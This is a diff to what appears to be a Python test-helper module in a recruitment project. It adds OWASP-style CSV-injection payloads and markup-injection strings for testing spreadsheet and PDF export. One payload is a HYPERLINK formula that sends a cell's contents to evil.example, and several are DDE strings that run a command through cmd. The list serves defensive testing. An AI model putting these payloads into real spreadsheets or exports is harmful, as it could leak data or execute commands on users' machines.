@@ -1,4 +1,5 @@
-"""Builders of hostile spreadsheet files: a real .xlsx made by openpyxl, then its XML rewritten the
+"""Hostile input: text that a spreadsheet or a PDF would read as its own (formulas, markup), and
+builders of hostile spreadsheet files: a real .xlsx made by openpyxl, then its XML rewritten the
 way a broken or malicious producer would write it."""
 from __future__ import annotations
 
@@ -9,6 +10,12 @@ import zipfile
 from recruitment import tabular
 
 SHEET = "xl/worksheets/sheet1.xml"
+
+# OWASP's CSV-injection payloads, and markup that reportlab would read as its own.
+FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")', "+1+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
+            "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
+MARKUP = ['<img src="/server/file.png"/> Lê Văn An', "Trần ‹Thị> Lan", "Trần <Thị> Lan", "Ngô <b>Văn & Minh",
+          "Đỗ </para> Thị Hà"]
 
 
 def rewrite(data: bytes, parts: dict[str, bytes | None]) -> bytes:
